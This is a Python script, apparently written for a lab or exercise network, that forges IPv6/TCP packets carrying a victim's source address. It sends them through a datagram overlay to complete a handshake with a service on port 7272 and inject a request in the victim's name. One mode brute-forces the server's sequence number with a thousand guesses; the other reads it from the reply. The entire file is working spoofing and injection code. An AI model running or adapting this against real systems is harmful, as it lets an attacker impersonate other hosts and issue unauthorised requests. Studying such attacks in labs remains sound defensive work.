"""Run inside a box: a member of the overlay who writes packets by hand, as coming from somebody else's address.

    blind.py DESK-DATAGRAMS VICTIM DESK-ADDRESS REQUEST [--guess]

Opens a connection to port 7272 from the victim's address, sends the request with the very packet that acknowledges the handshake, and prints
the body of what comes back. Without --guess the desk's first number is not known, and is guessed wrongly a thousand times; with it, it is read from
the answer, as the luckiest guess would have it."""
import random
import socket
import struct
import sys
import time

SYN, PSH, ACK = 0x02, 0x08, 0x10


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, target, port, number, acknowledged, flags, data=b""):
    head = struct.pack("!HHIIBBHHH", port, 7272, number, acknowledged, 5 << 4, flags, 65535, 0, 0)
    pseudo = source + target + struct.pack("!IHBB", len(head) + len(data), 0, 0, 6)
    head = head[:16] + struct.pack("!H", checksum(pseudo + head + data)) + head[18:]
    return struct.pack("!IHBB", 6 << 28, len(head) + len(data), 6, 64) + source + target + head + data


def received(s, port, deadline):
    """The next packet for the port: (number, flags, data)."""
    while time.monotonic() < deadline:
        s.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            p = s.recv(65535)
        except TimeoutError:
            return None
        if p[0] >> 4 == 6 and p[6] == 6 and struct.unpack("!H", p[42:44])[0] == port:
            return struct.unpack("!I", p[44:48])[0], p[53], p[40 + (p[52] >> 4) * 4:40 + struct.unpack("!H", p[4:6])[0]]
    return None


def main():
    host, port = sys.argv[1].split(":")
    victim, desk = (socket.inet_pton(socket.AF_INET6, a) for a in sys.argv[2:4])
    request, guess = open(sys.argv[4], "rb").read(), "--guess" in sys.argv
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", 9651))
    to = (host, int(port))
    ours, mine = random.randrange(20000, 60000), random.randrange(2**32)
    s.sendto(packet(victim, desk, ours, mine, 0, SYN), to)
    said = received(s, ours, time.monotonic() + 5)
    assert said and said[1] & (SYN | ACK) == SYN | ACK, "no handshake"
    if not guess:
        for _ in range(1000):
            s.sendto(packet(victim, desk, ours, mine + 1 & 0xFFFFFFFF, random.randrange(2**32), ACK | PSH, request), to)
        print("sent")
        return
    s.sendto(packet(victim, desk, ours, mine + 1 & 0xFFFFFFFF, said[0] + 1 & 0xFFFFFFFF, ACK | PSH, request), to)
    end, answer = time.monotonic() + 5, b""
    while b"\r\n\r\n{" not in answer:
        said = received(s, ours, end)
        if not said:
            break
        answer += said[2]
    print(answer.decode(errors="replace").split("\r\n\r\n")[-1])


main()
